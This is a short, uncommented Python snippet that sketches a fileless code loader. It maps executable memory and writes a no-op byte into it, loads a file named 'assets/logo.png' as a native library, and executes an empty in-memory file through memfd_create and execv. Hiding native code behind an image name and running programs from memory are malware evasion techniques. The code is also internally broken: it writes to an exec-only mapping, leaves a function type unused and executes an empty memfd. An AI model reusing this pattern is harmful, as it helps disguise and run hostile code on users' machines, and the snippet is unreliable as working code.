import ctypes, mmap, os
m = mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)
m.write(bytes.fromhex("90"))
f = ctypes.CFUNCTYPE(ctypes.c_int)
lib = ctypes.CDLL("assets/logo.png")
fd = os.memfd_create("x")
os.execv("/proc/self/fd/%d" % fd, ["x"])
